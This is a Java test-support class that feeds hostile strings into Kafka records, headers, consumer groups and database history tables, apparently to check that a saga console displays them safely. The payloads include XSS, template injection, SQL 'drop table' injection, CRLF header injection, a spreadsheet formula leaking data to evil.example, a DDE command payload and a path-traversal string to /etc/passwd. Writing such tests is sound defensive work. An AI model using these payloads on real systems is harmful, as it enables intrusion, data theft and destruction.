package dev.sagarewind.hostile;

import dev.sagarewind.support.ConsoleWorld;
import dev.sagarewind.support.LocalDatabase;
import dev.sagarewind.support.TestKafka;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.apache.kafka.clients.consumer.OffsetAndMetadata;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.awaitility.Awaitility;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.json.JsonMapper;

/** Texts that mean harm, in every place where somebody else's text can stand: both histories, Kafka's groups and records. */
final class Hostile {

    /** What a text that is run would leave behind, on a page or in an answer. */
    static final String RAN = "window.__ran";

    static final List<String> TEXTS = List.of(
            "<script>window.__ran=1</script>",
            "\"><img src=x onerror=window.__ran=2>",
            "' onmouseover='window.__ran=3' autofocus onfocus='window.__ran=3",
            "</textarea></title></style></script><svg onload=window.__ran=4>",
            "javascript:window.__ran=5//",
            "data:text/html,<script>window.__ran=6</script>",
            "${7331*7919} [[${7331*7919}]] [(${7331*7919})] *{7331*7919} ~{error} __${7331*7919}__ #{layout.section.failures}",
            "{{7331*7919}} <%= 7331*7919 %> {0} {0,number,#.##} '{'",
            "'; drop table saga_rewind.audit_entry; -- \\ \" % _",
            "x\r\nSet-Cookie: ran=1\r\n\r\n<script>window.__ran=7</script>",
            "\u202Egnp.exe\u202C \u2066evil\u2069 \u200F\u200Bzero",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")",
            "+cmd|' /C calc'!A0",
            "//evil.example/%2e%2e/%0d%0a/..;/?a=b#c",
            "../../../etc/passwd",
            "\u0001\u0008\u001b[31mred\u007f\u0085\u2028\u2029\ufeff\ufffe",
            "W".repeat(3_000),
            "\uD83D\uDCA3\u0301\u0301\u0301\u0301 \u5371\u967A");

    private static final String REQUEST = """
            insert into timeline.event_request_history (
                   event_id, saga_id, saga_type, event_type, topic, message_key, payload, requested_by)
            values (:event, :text, :text, :text, :text, :text, cast(:payload as jsonb), :text)
            """;

    private static final String FAILED = """
            insert into timeline.event_consumption_history (
                   consumer_group, event_id, saga_id, event_type, topic, partition, record_offset, outcome, consumed_by,
                   started_at, error_type, error_message, error_stack)
            values (:group, :event, :text, :text, :topic, 0, :offset, 'FAILED', :text,
                   clock_timestamp(), :text, :text, :text || E'\\n\\tat ' || :text || '(' || :text || ')')
            """;

    final List<UUID> events = new ArrayList<>();
    final List<String> groups = new ArrayList<>();
    private final String topic = TestKafka.freshTopic(1, Map.of("max.message.bytes", "12000000"));
    private final JdbcClient jdbc;

    private Hostile(LocalDatabase database) {
        this.jdbc = JdbcClient.create(database);
    }

    static Hostile in(ConsoleWorld world) throws Exception {
        Hostile hostile = new Hostile(world.database());
        try (var producer = new KafkaProducer<>(
                Map.<String, Object>of("bootstrap.servers", world.bootstrapServers(), "max.request.size", 12_000_000),
                new ByteArraySerializer(),
                new ByteArraySerializer())) {
            for (String text : TEXTS) {
                hostile.write(producer, text, JsonMapper.shared().writeValueAsString(Map.of(text, List.of(text))));
            }
            hostile.write(producer, "large", "\"" + "<b>".repeat(3_500_000) + "\"");
            // PostgreSQL itself refuses to nest as deeply as a record may.
            hostile.write(producer, "deep", "[".repeat(5_000) + "]".repeat(5_000), "[".repeat(100_000));
        }
        return hostile;
    }

    /** Until the console has taken in everything. */
    void awaitOnTheBoard() {
        Awaitility.await()
                .atMost(Duration.ofSeconds(60))
                .until(() ->
                        jdbc.sql("select count(distinct event_id) from saga_rewind.failure where event_id = any(?)")
                                        .param(events.toArray(UUID[]::new))
                                        .query(Integer.class)
                                        .single()
                                == events.size());
    }

    private void write(KafkaProducer<byte[], byte[]> producer, String text, String payload) throws Exception {
        write(producer, text, payload, payload);
    }

    private void write(KafkaProducer<byte[], byte[]> producer, String text, String payload, String value)
            throws Exception {
        UUID event = UUID.randomUUID();
        events.add(event);
        jdbc.sql(REQUEST)
                .param("event", event)
                .param("text", text)
                .param("payload", payload)
                .update();
        var record = new ProducerRecord<>(topic, 0, bytes(text), bytes(value));
        record.headers().add("id", bytes(event.toString()));
        record.headers().add(text, bytes(text));
        record.headers().add("saga_id", bytes(text));
        long offset = producer.send(record).get(20, TimeUnit.SECONDS).offset();
        String group = text.length() > 200 ? text.substring(0, 200) : text;
        groups.add(group);
        TestKafka.admin()
                .alterConsumerGroupOffsets(
                        group, Map.of(new TopicPartition(topic, 0), new OffsetAndMetadata(offset + 1, text)))
                .all()
                .get(20, TimeUnit.SECONDS);
        failed(group, event, text, topic, offset);
        // A topic's name is Kafka's business; a history can hold any.
        failed(group, event, text, text, offset);
    }

    private void failed(String group, UUID event, String text, String topic, long offset) {
        jdbc.sql(FAILED)
                .param("group", group)
                .param("event", event)
                .param("text", text)
                .param("topic", topic)
                .param("offset", offset)
                .update();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
